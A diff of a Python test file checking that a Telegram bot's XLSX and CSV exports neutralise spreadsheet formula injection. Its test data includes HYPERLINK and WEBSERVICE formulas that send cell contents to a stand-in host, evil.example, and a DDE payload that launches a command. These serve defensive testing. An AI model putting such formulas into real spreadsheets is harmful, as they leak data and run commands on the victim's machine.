@@ -18,6 +18,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
+from bot.core.editions import load_editions
 from bot.ui.files.chart import build_chart
 from bot.ui.files.csvfile import FORMULA_STARTS, build_csv, neutralise
 from bot.ui.files.xlsx import build_xlsx
@@ -27,6 +28,9 @@ from tests.conftest import ADMIN, Harness
 from tests.handlers.test_reports import CHI, DUNG, ORG
 
 VN = ZoneInfo("Asia/Ho_Chi_Minh")
+EDITION = load_editions().get(2023)
+assert EDITION is not None
+MADE_AT = datetime(2023, 10, 9, 1, 30, tzinfo=UTC)
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm xem")'
 WEBSERVICE = '=WEBSERVICE("http://evil.example/?n="&G2)'
 # Every start a spreadsheet reads as a formula (OWASP), each with something after it.
@@ -71,6 +75,7 @@ def detail_with(field: str, payload: str) -> Detail:
         30,
         values["activity"],
         values["note"],
+        7,
     )
 
 
@@ -84,10 +89,12 @@ def stats_with_unit(unit: str) -> EditionStats:
 @pytest.mark.parametrize("field", FIELDS)
 def test_xlsx_writes_every_user_text_column_as_text(field: str, payload: str) -> None:
     unit = payload if field == "unit" else "Phòng A"
-    data = build_xlsx(Vi, stats_with_unit(unit), [detail_with(field, payload)], VN)
+    data = build_xlsx(
+        Vi, EDITION, stats_with_unit(unit), [detail_with(field, payload)], VN, MADE_AT
+    )
     values = assert_no_formula(data)
     row = values["Chi tiết"][1]
-    column = {"full_name": 2, "unit": 3, "activity": 5, "note": 6}[field]
+    column = {"full_name": 3, "unit": 4, "activity": 6, "note": 7}[field]
     assert row[column] == payload  # the text itself, unchanged
     if field == "unit":
         assert values["Theo đơn vị"][1][0] == payload
@@ -98,14 +105,14 @@ def test_xlsx_writes_every_user_text_column_as_text(field: str, payload: str) ->
 def test_csv_neutralises_every_user_text_column(field: str, payload: str) -> None:
     data = build_csv(Vi, [detail_with(field, payload)], VN)
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-    cell = rows[1][{"full_name": 2, "unit": 3, "activity": 5, "note": 6}[field]]
+    cell = rows[1][{"full_name": 3, "unit": 4, "activity": 6, "note": 7}[field]]
     # Inert, and the original still readable after the quote ("#N/A" is no formula: as is).
     assert cell == ("'" + payload if payload.startswith(FORMULA_STARTS) else payload)
     for row in rows:
         assert not any(value.startswith(FORMULA_STARTS) for value in row), row
     # Every field is quoted: a ";" inside a note cannot open a new cell where Excel splits
     # on semicolons (the list separator of Vietnamese Windows).
-    assert data.decode("utf-8-sig").splitlines()[1].startswith('"2023-10-03","09:00",')
+    assert data.decode("utf-8-sig").splitlines()[1].startswith('"7","03/10/2023","09:00",')
 
 
 @given(st.text(max_size=40))
@@ -132,7 +139,7 @@ async def test_formulas_typed_into_the_bot_stay_text_in_both_exports(bot: Harnes
     xlsx = bot.telegram.sent(ADMIN.id)[-1].upload
     assert xlsx is not None
     detail = assert_no_formula(xlsx)["Chi tiết"][1:]
-    assert {(r[2], r[3], r[6]) for r in detail} == {
+    assert {(r[3], r[4], r[7]) for r in detail} == {
         (HYPERLINK, "Phòng Tổng hợp", WEBSERVICE),
         ("Lê Dũng", "=Phòng+1", "+cmd|' /C calc'!A0"),
         ("@Tổ chức", "-Phòng trừ", "@SUM(1;2)"),
@@ -141,7 +148,7 @@ async def test_formulas_typed_into_the_bot_stay_text_in_both_exports(bot: Harnes
     data = bot.telegram.sent(ADMIN.id)[-1].upload
     assert data is not None
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-    assert {(r[2], r[3], r[6]) for r in rows[1:]} == {
+    assert {(r[3], r[4], r[7]) for r in rows[1:]} == {
         ("'" + HYPERLINK, "Phòng Tổng hợp", "'" + WEBSERVICE),
         ("Lê Dũng", "'=Phòng+1", "'+cmd|' /C calc'!A0"),
         ("'@Tổ chức", "'-Phòng trừ", "'@SUM(1;2)"),
